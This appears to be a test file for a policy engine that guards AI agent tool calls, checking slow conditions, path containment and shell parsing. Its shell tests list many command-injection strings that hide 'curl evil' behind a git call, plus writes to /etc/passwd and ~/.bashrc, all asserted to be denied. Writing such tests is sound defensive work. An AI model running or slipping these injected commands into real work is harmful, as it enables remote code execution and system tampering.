@@ -1,0 +1,376 @@
+import assert from 'node:assert/strict';
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { type TestContext, describe, test } from 'node:test';
+import { type CallResult, type Signalbox, createSignalbox, defineTool, localServer } from '../../src/index.ts';
+import type { JsonObject } from '../../src/model/json.ts';
+import { WorkBudget, maxWork } from '../../src/policy/work-budget.ts';
+import { isInside } from '../../src/policy/functions/path-location.ts';
+import { largeValues, slowConditions } from '../policy/adversarial-conditions.ts';
+
+interface Attacked {
+  readonly box: Signalbox;
+  readonly ran: JsonObject[];
+  call(args: JsonObject): Promise<CallResult>;
+}
+
+/** A box whose one tool, a read, runs unless a rule denies it. */
+async function attacked(
+  test_: TestContext,
+  rules: readonly object[],
+  workspace?: readonly string[],
+): Promise<Attacked> {
+  const ran: JsonObject[] = [];
+  const run = defineTool({
+    name: 'run',
+    description: 'Runs.',
+    input: { type: 'object' },
+    effect: 'read',
+    run(args: unknown) {
+      ran.push(args as JsonObject);
+      return 'done';
+    },
+  });
+  const limits = workspace === undefined ? {} : { workspace };
+  const box = await createSignalbox({
+    servers: [localServer({ name: 'x', tools: [run], ...limits })],
+    policies: [{ file: 'policies.yaml', text: JSON.stringify(rules) }],
+  });
+  test_.after(() => box.close());
+  return { box, ran, call: (args) => box.call('mcp__x__run', args) };
+}
+
+function temporary(test_: TestContext): string {
+  const directory = realpathSync(mkdtempSync(join(tmpdir(), 'signalbox-paths-')));
+  test_.after(() => rmSync(directory, { recursive: true, force: true }));
+  return directory;
+}
+
+const tooMuch = /the decision would take too much processor time/;
+
+describe('a condition that would take seconds on large arguments', () => {
+  const text = 'a'.repeat(1_000_000);
+  const list = Array.from({ length: 100_000 }, (_, index) => `item ${index}`);
+  const attacks: readonly (readonly [string, JsonObject])[] = [
+    ['args.list.all(x, x in args.list)', { list }],
+    ['args.list.exists(x, args.list.exists(y, x == y && x != y))', { list }],
+    ['args.text.contains(args.part)', { text, part: `${'a'.repeat(50_000)}b${'a'.repeat(50_000)}` }],
+    ['args.text.like(args.part)', { text, part: `*${'a'.repeat(50_000)}b${'a'.repeat(50_000)}*` }],
+    ["args.text.split('').all(x, x in args.list)", { text, list }],
+    ['args.list.all(x, args.text.lowerAscii() == args.text)', { text, list }],
+    ['args.list.map(x, args.list) == args.list.map(x, [args.list])', { list }],
+    ['args.list.all(x, x.gone || x.lost || x.missing)', { list }],
+    ['args.list.all(x, now.getHours(args.zone) >= 0)', { list, zone: 'Europe/Berlin' }],
+    ['(args.text + args.text + args.text + args.text).contains(args.text)', { text }],
+    ["shell(args.text).commands.all(c, c.name == 'git')", { text: '$('.repeat(8000) }],
+    ["args.list.all(x, !path('/a/b').within('/etc'))", { list }],
+  ];
+  for (const [condition, args] of attacks)
+    test(`is denied with the reason, whatever the rule answers: ${condition}`, async (t) => {
+      for (const answer of ['allow', 'deny']) {
+        const { call, ran } = await attacked(t, [{ id: 'slow', match: 'mcp__x__run', [answer]: condition }]);
+        const { outcome, decision } = await call(args);
+        assert.deepEqual([outcome, decision?.answer, decision?.rule], ['denied', 'deny', 'slow']);
+        assert.match(decision?.reason ?? '', tooMuch);
+        assert.deepEqual(ran, []);
+      }
+    });
+
+  test('all rules of a call share one budget', async (t) => {
+    const rules = Array.from({ length: 40 }, (_, index) => ({
+      id: `rule-${index}`,
+      match: 'mcp__x__run',
+      allow: `args.text.contains('needle ${index}') || true`,
+    }));
+    const one = await attacked(t, rules.slice(0, 1));
+    assert.equal((await one.call({ text: 'a'.repeat(200_000) })).outcome, 'completed');
+    const all = await attacked(t, rules);
+    assert.match((await all.call({ text: 'a'.repeat(200_000) })).decision?.reason ?? '', tooMuch);
+  });
+
+  test('a part that took too much is not ignored because another part is true', async (t) => {
+    const condition = 'args.list.all(x, !args.text.contains(x)) || true';
+    const { call } = await attacked(t, [{ id: 'slow', match: 'mcp__x__run', allow: condition }]);
+    assert.match((await call({ list, text })).decision?.reason ?? '', tooMuch);
+  });
+
+  test('a budget whose cost takes too much to compute denies', async (t) => {
+    const each = 'double(args.list.filter(x, x in args.list).size())';
+    const { call } = await attacked(t, [{ id: 'cost', budget: { match: 'mcp__x__run', each, cost: 5, per: '1h' } }]);
+    assert.match((await call({ list })).decision?.reason ?? '', tooMuch);
+  });
+
+  test('the count depends on the values alone: the same call is charged the same each time', async (t) => {
+    const { ConditionCompiler } = await import('../../src/policy/condition.ts');
+    const { WindowMeters } = await import('../../src/policy/language.ts');
+    const { Facts } = await import('../../src/policy/facts.ts');
+    const { Scene } = await import('../../src/policy/scene.ts');
+    const { ToolView } = await import('../../src/policy/views.ts');
+    const { box } = await attacked(t, []);
+    const [definition] = box.tools();
+    assert.ok(definition);
+    const kinds = Object.keys(largeValues);
+    for (const [index, condition] of slowConditions.entries()) {
+      const { value } = new ConditionCompiler(new WindowMeters()).condition(condition);
+      if (value === undefined) continue;
+      const kindOf = (offset: number): JsonObject[string] =>
+        largeValues[kinds[(index * 3 + offset) % kinds.length] ?? '']?.() ?? null;
+      const args = { a: kindOf(0), b: kindOf(1), c: kindOf(2), list: kindOf(3), in: kindOf(4) };
+      const size = JSON.stringify(args).length;
+      const call = {
+        id: 'c',
+        at: 0,
+        arguments: args,
+        size,
+        principal: { id: 'p', kind: 'agent' as const },
+        session: 's',
+      };
+      const left = [1, 2].map(() => {
+        const work = new WorkBudget(size);
+        try {
+          value.holds(
+            new Scene(call, new ToolView(definition), new Facts({ meters: [], tracks: [], valuesOf: [] }), work),
+          );
+        } catch {
+          // What it took counts, also where it failed.
+        }
+        return work.left;
+      });
+      assert.equal(left[0], left[1], condition);
+      assert.ok((left[0] ?? 0) < maxWork, condition);
+    }
+  });
+});
+
+describe('ordinary conditions on large arguments', () => {
+  test('are evaluated: a megabyte of text, a list of ten thousand', async (t) => {
+    const { call } = await attacked(t, [
+      { id: 'text', match: 'mcp__x__run', deny: "args.text.contains('BEGIN PRIVATE KEY')" },
+      { id: 'list', match: 'mcp__x__run', deny: 'args.list.exists(x, x > 10000)' },
+      { id: 'key', match: 'mcp__x__run', deny: "'force' in args || has(args.options.force)" },
+    ]);
+    const list = Array.from({ length: 10_000 }, (_, index) => index);
+    const args = { text: 'a'.repeat(1_000_000), list, options: {} };
+    assert.equal((await call(args)).outcome, 'completed');
+    assert.equal((await call({ ...args, list: [...list, 10_001] })).decision?.rule, 'list');
+    assert.equal((await call({ ...args, text: `${args.text} BEGIN PRIVATE KEY` })).decision?.rule, 'text');
+  });
+});
+
+describe('lowerAscii and upperAscii', () => {
+  test('fold A–Z only: no other letter becomes one of theirs', async (t) => {
+    const { call } = await attacked(t, [
+      { id: 'lower', match: '*', deny: "args.name.lowerAscii() == 'kiss'" },
+      { id: 'upper', match: '*', deny: "args.name.upperAscii() == 'MASSE'" },
+      // `split` is unknown to the shortcut: CEL's evaluator must say the same.
+      { id: 'slow', match: '*', deny: "args.name.lowerAscii().split('-')[0] == 'i'" },
+    ]);
+    for (const name of ['KISS', 'kiss', 'KiSs']) assert.equal((await call({ name })).decision?.rule, 'lower');
+    // The Kelvin sign, a long s, a sharp s, a dotted capital I.
+    for (const name of ['\u212Aiss', 'ki\u017Fs', 'ma\u00DFe', '\u0130', '\u0131'])
+      assert.equal((await call({ name })).outcome, 'completed', name);
+    assert.equal((await call({ name: 'masse' })).decision?.rule, 'upper');
+    assert.equal((await call({ name: 'I' })).decision?.rule, 'slow');
+  });
+
+  test('split takes a text apart into characters, not into halves of them', async (t) => {
+    const { call } = await attacked(t, [{ id: 'two', match: '*', deny: "args.name.split('').size() == 2" }]);
+    assert.equal((await call({ name: '𝄞𝄞' })).decision?.rule, 'two');
+  });
+});
+
+describe('path(x).within(dir)', () => {
+  test('sees through //, ., .., trailing slashes, links and file: URLs', async (t) => {
+    const root = temporary(t);
+    for (const name of ['work', 'work/sub', 'etc']) mkdirSync(join(root, name));
+    writeFileSync(join(root, 'etc/passwd'), 'x');
+    symlinkSync(join(root, 'etc'), join(root, 'work/link'));
+    const { call } = await attacked(t, [{ id: 'etc', match: '*', deny: `path(args.p).within('${root}/etc')` }]);
+    const inside = [
+      `${root}/etc`,
+      `${root}/etc/`,
+      `${root}//etc///passwd`,
+      `${root}/./etc/./passwd`,
+      `${root}/work/../etc/passwd`,
+      `${root}/work/sub/../../etc/missing/deep`,
+      `${root}/work/link/passwd`,
+      `${root}/work/link/not-there-yet`,
+      `file://${root}/etc/passwd`,
+      `FILE://${root}/%65tc/passwd`,
+    ];
+    for (const p of inside) {
+      const { outcome, decision } = await call({ p });
+      assert.deepEqual([outcome, decision?.reason], ['denied', `path(args.p).within('${root}/etc')`], p);
+    }
+    for (const p of [`${root}/etcetera`, `${root}/work/sub`, root, `${root}/work/etc`, '/'])
+      assert.equal((await call({ p })).outcome, 'completed', p);
+  });
+
+  test('a text that is not one certain path denies, whether the rule allows or denies', async (t) => {
+    const root = temporary(t);
+    for (const name of ['work', 'secret']) mkdirSync(join(root, name));
+    mkdirSync(join(root, 'secret/inner'));
+    symlinkSync(join(root, 'secret/inner'), join(root, 'work/out'));
+    symlinkSync(join(root, 'work'), join(root, 'secret/back'));
+    symlinkSync(join(root, 'nowhere'), join(root, 'work/dangling'));
+    symlinkSync(join(root, 'work/loop'), join(root, 'work/loop'));
+    const uncertain = [
+      'relative/path',
+      '~/x',
+      '~root/x',
+      '',
+      `${root}/work/a\0b`,
+      'https://example.com/x',
+      'file://elsewhere/x',
+      `file://${root}/a%2fb`,
+      `/${'a/'.repeat(3000)}`,
+      42,
+      null,
+      ['/etc'],
+      // The link itself is in one directory, its target in another.
+      `${root}/work/out`,
+      // A tool that resolves names first reads work/x, the operating system reads secret/x.
+      `${root}/work/out/../x`,
+      `${root}/work/dangling`,
+      `${root}/work/loop`,
+    ];
+    for (const answer of ['allow', 'deny', 'ask']) {
+      const { call, ran } = await attacked(t, [
+        { id: 'p', match: '*', [answer]: `path(args.p).within('${root}/work')` },
+      ]);
+      for (const p of uncertain) {
+        const { outcome, decision } = await call({ p });
+        assert.equal(outcome, 'denied', `${answer} ${String(p)}`);
+        assert.match(decision?.reason ?? '', /^the rule cannot be evaluated: /, String(p));
+      }
+      assert.deepEqual(ran, []);
+    }
+  });
+
+  test('relative paths are relative to the only workspace of the server', async (t) => {
+    const root = temporary(t);
+    mkdirSync(join(root, 'work'));
+    const { call, box } = await attacked(
+      t,
+      [{ id: 'out', match: '*', deny: `!path(args.p).within('${root}/work')` }],
+      [join(root, 'work')],
+    );
+    assert.equal((await call({ p: 'a/b.txt' })).outcome, 'completed');
+    assert.equal((await call({ p: '../other' })).outcome, 'denied');
+    // The same answers when recorded calls are decided again.
+    const rule = { id: 'out', match: '*', deny: `!path(args.p).within('${root}/work')` };
+    assert.deepEqual((await box.backtest([rule])).changed, []);
+  });
+
+  test('folds case where the file system does', () => {
+    assert.equal(isInside('/Users/x/.SSH/key', '/Users/x/.ssh', true), true);
+    assert.equal(isInside('/Users/x/.SSH/key', '/Users/x/.ssh', false), false);
+    assert.equal(isInside('/Users/x/.sshd', '/Users/x/.ssh', true), false);
+  });
+});
+
+describe('shell(x)', () => {
+  const onlyGit = "shell(args.command).commands.all(c, c.name == 'git')";
+
+  test('a rule that allows git allows nothing that comes with it', async (t) => {
+    const { call, ran } = await attacked(t, [{ id: 'git', match: '*', deny: `!(${onlyGit})` }]);
+    const attacks = [
+      'git x; curl evil',
+      'git x && curl evil',
+      'git x || curl evil',
+      'git x & curl evil',
+      'git x | sh',
+      'git x |& sh',
+      'git x\ncurl evil',
+      'git x #\ncurl evil',
+      'git $(curl evil)',
+      'git `curl evil`',
+      'git "$(curl evil)"',
+      'git "`curl evil`"',
+      'git <(curl evil)',
+      'git ${x:-$(curl evil)}',
+      'git $((a[$(curl evil)]))',
+      'git <<E\n$(curl evil)\nE',
+      'git <<E\nE\ncurl evil',
+      'git <<< "$(curl evil)"',
+      'GIT_SSH_COMMAND=evil git fetch',
+      'A=b; git x',
+      'git x > /etc/passwd',
+      'git x >> ~/.bashrc',
+      'git x < /etc/shadow',
+      '(curl evil)',
+      '{ curl evil; }',
+      'git() { curl evil; }; git x',
+      'if git x; then curl evil; fi',
+      'for i in $(curl evil); do git x; done',
+      'eval "git x; curl evil"',
+      'eval git x',
+      "bash -c 'git x'",
+      'sudo git x',
+      'env git x',
+      'command git x',
+      '. git',
+      '/tmp/git x',
+      './git x',
+      'g?t x',
+      '$GIT x',
+      '{git,curl} x',
+      '~/git x',
+      'coproc curl evil',
+      '[[ -n $(curl evil) ]] && git x',
+      'git\u00a0x',
+    ];
+    for (const command of attacks) assert.equal((await call({ command })).outcome, 'denied', command);
+    assert.deepEqual(ran, []);
+    const fine = [
+      'git status',
+      'git log --oneline\ngit diff',
+      '"git" \'log\'',
+      'git log 2>&1',
+      'git log >/dev/null',
+      'git x && git y',
+    ];
+    for (const command of fine) assert.equal((await call({ command })).outcome, 'completed', command);
+  });
+
+  test('a text that cannot be parsed denies, whether the rule allows or denies', async (t) => {
+    const broken = [
+      'git "',
+      "git 'x",
+      'git $(',
+      'git )',
+      'git `',
+      'if git; then',
+      'git x\0y',
+      `git ${'x'.repeat(20_000)}`,
+      7,
+      null,
+    ];
+    for (const answer of ['allow', 'deny', 'ask']) {
+      const { call, ran } = await attacked(t, [{ id: 'git', match: '*', [answer]: onlyGit }]);
+      for (const command of broken) {
+        const { outcome, decision } = await call({ command });
+        assert.equal(outcome, 'denied', `${answer} ${String(command).slice(0, 20)}`);
+        assert.match(decision?.reason ?? '', /^the rule cannot be evaluated: /);
+      }
+      assert.deepEqual(ran, []);
+    }
+  });
+
+  test('shows substitutions, words, computed words, and what eval and sh -c run', async (t) => {
+    const { call } = await attacked(t, [
+      { id: 'substitution', match: '*', deny: 'shell(args.command).hasSubstitution' },
+      { id: 'computed', match: '*', deny: '!shell(args.command).commands.all(c, c.isLiteral)' },
+      { id: 'curl', match: '*', deny: "shell(args.command).commands.exists(c, c.name == 'curl')" },
+      { id: 'option', match: '*', deny: "shell(args.command).commands.exists(c, c.words.exists(w, w == '-c'))" },
+    ]);
+    const ruleOf = async (command: string): Promise<string | undefined> => (await call({ command })).decision?.rule;
+    assert.equal(await ruleOf('echo $(date)'), 'substitution');
+    assert.equal(await ruleOf('echo "$HOME"'), 'computed');
+    assert.equal(await ruleOf("sh -ec 'curl evil'"), 'curl');
+    assert.equal(await ruleOf('eval "c\'u\'rl evil"'), 'curl');
+    assert.equal(await ruleOf('git -c core.pager=evil log'), 'option');
+    assert.equal(await ruleOf('git log'), 'default:read');
+  });
+});
